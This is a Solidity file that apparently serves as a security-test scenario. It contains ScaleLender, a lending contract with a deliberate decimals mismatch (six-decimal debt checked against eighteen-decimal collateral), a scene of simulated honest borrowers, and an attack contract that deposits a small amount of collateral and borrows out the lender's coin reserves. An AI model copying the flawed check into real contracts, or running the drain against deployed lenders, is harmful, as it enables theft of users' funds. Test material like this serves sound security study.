// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Takes every token for one of eighteen decimals.
contract ScaleLender {
    IERC20 public immutable coin; // six decimals
    IERC20 public immutable cash; // eighteen
    mapping(address => uint256) public collateral;
    mapping(address => uint256) public debt;

    event Deposit(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);
    event Borrow(address indexed who, uint256 amount);
    event Repay(address indexed who, uint256 amount);

    constructor(IERC20 coin_, IERC20 cash_) {
        (coin, cash) = (coin_, cash_);
    }

    function depositCash(uint256 amount) external {
        cash.transferFrom(msg.sender, address(this), amount);
        collateral[msg.sender] += amount;
        emit Deposit(msg.sender, amount);
    }

    function withdrawCash(uint256 amount) external {
        collateral[msg.sender] -= amount;
        require(collateral[msg.sender] * 3 / 4 >= debt[msg.sender], "collateral");
        cash.transfer(msg.sender, amount);
        emit Withdraw(msg.sender, amount);
    }

    /// Debt in units of six decimals against collateral in units of eighteen.
    function borrowCoin(uint256 amount) external {
        debt[msg.sender] += amount;
        require(collateral[msg.sender] * 3 / 4 >= debt[msg.sender], "collateral");
        coin.transfer(msg.sender, amount);
        emit Borrow(msg.sender, amount);
    }

    function repayCoin(uint256 amount) external {
        debt[msg.sender] -= amount;
        coin.transferFrom(msg.sender, address(this), amount);
        emit Repay(msg.sender, amount);
    }
}

contract DecimalsMismatchScene is Scene {
    Token public usd;
    Token public coin = new Token("USDC6", 6);
    ScaleLender public lender;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        _asset(address(coin), "USDC6", 6, 1e6);
        lender = new ScaleLender(IERC20(address(coin)), IERC20(address(usd)));
        coin.mint(address(lender), 2_000_000e6);
        _protect(address(lender));
        _loan(IERC20(address(usd)), 1_000e18);
        own = true;
        loot0 = IERC20(address(coin));
        loot1 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 200_000e18, address(lender));
        _arm(coin, users, 0, address(lender));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 kind = (dice >> 200) % 4;
        uint256 held = lender.collateral(who);
        uint256 owed = lender.debt(who);
        // Honest people borrow what they think they may.
        uint256 fair = held / 1e12 / 2;
        if (kind == 0 && fair > owed + 10e6) return (address(lender), 0, abi.encodeCall(ScaleLender.borrowCoin, (fair - owed)));
        if (kind == 1 && owed > 0 && coin.balanceOf(who) >= owed) {
            return (address(lender), 0, abi.encodeCall(ScaleLender.repayCoin, (owed)));
        }
        if (kind == 2 && owed == 0 && held > 0) return (address(lender), 0, abi.encodeCall(ScaleLender.withdrawCash, (held)));
        return (address(lender), 0, abi.encodeCall(ScaleLender.depositCash, (_amount(dice, 100e18, 4_000e18))));
    }
}

contract DecimalsMismatchAttack is Attack {
    ScaleLender private immutable lender;

    constructor(DecimalsMismatchScene scene) Attack(scene) {
        lender = scene.lender();
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        loanToken.approve(address(lender), type(uint256).max);
        lender.depositCash(10e18);
        lender.borrowCoin(loot0.balanceOf(address(lender)) / (count - index));
    }
}
